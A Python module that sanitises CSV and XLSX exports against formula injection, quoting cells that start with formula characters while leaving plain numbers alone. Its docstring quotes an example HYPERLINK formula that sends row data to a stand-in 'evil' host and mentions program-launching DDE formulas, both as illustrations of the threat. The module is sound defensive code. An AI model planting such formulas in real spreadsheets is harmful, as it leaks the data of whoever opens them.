"""Spreadsheet exports that cannot run formulas: CSV and XLSX the platform writes.

A title, a usage line's free text or a quarantined value is whatever a user typed.
Opened in Excel or LibreOffice, a CSV cell starting with ``=``, ``+``, ``-``, ``@``,
TAB or CR is a formula (``=HYPERLINK("http://evil/?"&A1, "Click")`` leaks the row,
DDE formulas start programs). OWASP's remedy: prefix such a cell with a single quote,
which the spreadsheet shows as text.

One deliberate exception: text that is a plain number ("-12.50", "+3", "1e-3") is
left alone. OWASP prefixes every leading "-", but that would turn each negative
amount into text nobody can sum; a plain number cannot call a function or a link,
so it is safe. Non-text values (Decimal, int, date) are the platform's own numbers
and are written as they are.

In XLSX only a string starting with "=" becomes a formula (openpyxl's rule); such
cells are written as text cells, keeping the exact characters.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will take it as data, never as a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeCsvWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def xlsx_row(sheet: Any, row: Iterable[Any]) -> list[Any]:
    """``row`` for ``sheet.append``: strings openpyxl would store as formulas become
    text cells (works for normal and write-only sheets)."""
    values = []
    for value in row:
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        values.append(value)
    return values
